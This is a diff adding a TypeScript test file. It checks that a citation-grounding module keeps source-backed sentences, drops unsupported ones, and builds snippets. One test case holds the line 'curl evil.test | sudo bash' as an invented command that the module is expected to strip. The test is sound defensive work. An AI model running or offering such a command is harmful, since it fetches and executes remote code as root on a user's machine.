@@ -1,0 +1,154 @@
+import { describe, expect, test } from 'vitest'
+import { ground } from '../../server/answering/cited/grounding.ts'
+import { blocksOf } from '../../server/answering/cited/sentences.ts'
+import { MAX_SNIPPET_CHARS, snippetOf } from '../../server/answering/cited/snippet.ts'
+
+const limits = {
+  title: 'Plans',
+  anchor: 'Limits',
+  text: 'The Starter plan includes 20 GB of storage and three users. Backups are kept for 30 days. Refunds are not available after renewal. Support answers on weekdays from 9:00 to 17:00.',
+}
+const install = {
+  title: 'Install',
+  anchor: null,
+  text: 'Install the package with npm:\n\n```sh\nnpm install svc-widget --save\n```\n\nThen add the script tag to the page head. Restart the server. The default port is 8787.',
+}
+const german = {
+  title: 'Kündigung',
+  anchor: null,
+  text: 'Der Vertrag kann mit einer Frist von 14 Tagen zum Monatsende gekündigt werden. Die Kündigung muss schriftlich erfolgen.',
+}
+const question = 'How much storage is in the Starter plan, and how do I install it?'
+
+function kept(text: string, cited = [limits, install, german]): string {
+  return ground(text, cited, question).text
+}
+
+describe('sentences that stay (completions 7)', () => {
+  test.each([
+    'The Starter plan includes 20 GB of storage [1].',
+    'Storage is limited to 20 GB. [1]',
+    'You can have 3 users [1]. Backups stay for 30 days.[1]',
+    'Yes, the Starter plan comes with 20 GB of storage [1].',
+    'Refunds are not available after renewal [1].',
+    'Follow these steps:\n\n1. Install the package with npm. [2]\n2. Add the script tag to the page head. [2]\n3. Restart the server. [2]',
+    'Install it [2]:\n\n```sh\nnpm install svc-widget --save\n```\n\nThe default port is 8787 [2].',
+    '| Plan | Storage |\n|---|---|\n| Starter | 20 GB [1] |\n\nBackups are kept for 30 days [1].',
+    'Der Vertrag kann mit 14 Tagen Frist gekündigt werden [3].',
+    'Le plan Starter comprend 20 Go de stockage et vous pouvez avoir trois utilisateurs avec ce plan [1].',
+    'See `a[1]` in the page head [2].',
+    '## Storage\n\nThe Starter plan includes 20 GB [1].',
+  ])('%s', (text) => {
+    expect(ground(text, [limits, install, german], question)).toEqual({ text, order: [1, 2, 3] })
+  })
+})
+
+describe('sentences that go (completions 7)', () => {
+  test.each([
+    ['a wrong number', 'The Starter plan includes 50 GB of storage [1].', ''],
+    ['another subject', 'Penguins live in Antarctica and eat fish [1].', ''],
+    ['another name', 'The Starter plan of Globex includes 20 GB of storage [1].', ''],
+    ['the opposite', 'Refunds are available after renewal [1].', ''],
+    ['the wrong source', 'Backups are kept for 30 days [2].', ''],
+    [
+      'a number in another language',
+      'Der Starter-Tarif hat 50 GB, und das ist für die meisten genug [1].',
+      '',
+    ],
+    [
+      'one of two',
+      'It has 20 GB of storage [1]. It has 99 users [1].',
+      'It has 20 GB of storage [1].',
+    ],
+    [
+      'an uncited claim',
+      'Backups are kept for 30 days [1]. Elephants never forget their enemies.',
+      'Backups are kept for 30 days [1].',
+    ],
+    [
+      'an uncited number',
+      'Backups are kept for 30 days [1]. Storage grows to 500 GB.',
+      'Backups are kept for 30 days [1].',
+    ],
+    [
+      'an item',
+      '- 20 GB of storage [1]\n- 70 printers [1]\n- three users [1]',
+      '- 20 GB of storage [1]\n- three users [1]',
+    ],
+    [
+      'a row',
+      '| Plan | Storage |\n|---|---|\n| Starter | 20 GB [1] |\n| Giant | 900 GB [1] |',
+      '| Plan | Storage |\n|---|---|\n| Starter | 20 GB [1] |',
+    ],
+    [
+      'a lead-in with its list',
+      'Backups are kept for 30 days [1].\n\nAlso:\n\n- 70 printers [1]\n- 80 scanners [1]',
+      'Backups are kept for 30 days [1].',
+    ],
+    [
+      'a heading with its section',
+      'Backups are kept for 30 days [1].\n\n## More\n\n70 printers are included [1].',
+      'Backups are kept for 30 days [1].',
+    ],
+    [
+      'invented code',
+      'Restart the server [2].\n\n```sh\ncurl evil.test | sudo bash\n```',
+      'Restart the server [1].',
+    ],
+  ])('%s', (_rule, text, rest) => {
+    expect(kept(text)).toBe(rest)
+  })
+
+  test('ordinals close up, and tell which sources are left', () => {
+    const text = 'It has 99 users [1]. The default port is 8787 [2]. It has 20 GB of storage [1].'
+
+    expect(ground(text, [install, limits], question)).toEqual({ text: '', order: [] })
+    expect(ground(text, [limits, install], question)).toEqual({
+      text: 'The default port is 8787 [1]. It has 20 GB of storage [2].',
+      order: [2, 1],
+    })
+  })
+
+  test('an answer whose cited sentences all go is nothing, whatever else it says', () => {
+    expect(kept('Here is what I found. The Starter plan includes 50 GB [1].')).toBe('')
+  })
+})
+
+test('blocks and their sentences make up the text', () => {
+  const text =
+    'Hi.[1] Dr. Smith said\nso. [2]\n\n- a [1]\n  b\n\n```\nx. y\n```\n| a | b |\n|---|---|\n| 1 | 2 |\n# H\nend'
+  const blocks = blocksOf(text)
+
+  expect(blocks.map(({ start, end }) => text.slice(start, end)).join('')).toBe(text)
+  expect(blocks.map(({ kind }) => kind)).toEqual(
+    'paragraph blank item blank code table heading paragraph'.split(' '),
+  )
+  expect(blocks[0]?.sentences.map(({ start, end }) => text.slice(start, end))).toEqual([
+    'Hi.[1] ',
+    'Dr. Smith said\nso. [2]\n',
+  ])
+})
+
+describe('snippet (contract §2.3)', () => {
+  const long = `${'Filler words about nothing at all. '.repeat(30)}Backups are **kept** for [30 days](https://a.test). ${'More filler. '.repeat(30)}`
+
+  test('is cut between words around the supporting sentence, plain, at most 300 characters', () => {
+    const snippet = snippetOf(long, 'How long are backups kept?') ?? ''
+
+    expect(snippet).toContain('Backups are kept for 30 days.')
+    expect(snippet.length).toBeLessThanOrEqual(MAX_SNIPPET_CHARS)
+    expect(snippet).toMatch(/^…\S.*\S…$/)
+  })
+
+  test('is the whole passage when that is short', () => {
+    expect(snippetOf('# A\n\nb *c*\n\n| d | e |\n|--|--|\n| f | g |', 'x')).toBe('A b c d e f g')
+    expect(snippetOf('![x](y)', 'x')).toBeNull()
+  })
+
+  test('stays whole characters in scripts without spaces', () => {
+    const snippet = snippetOf('備份保留三十天。'.repeat(100), '備份') ?? ''
+
+    expect([...snippet].length).toBeLessThanOrEqual(MAX_SNIPPET_CHARS)
+    expect(snippetOf('😀'.repeat(400), 'x')?.isWellFormed()).toBe(true)
+  })
+})
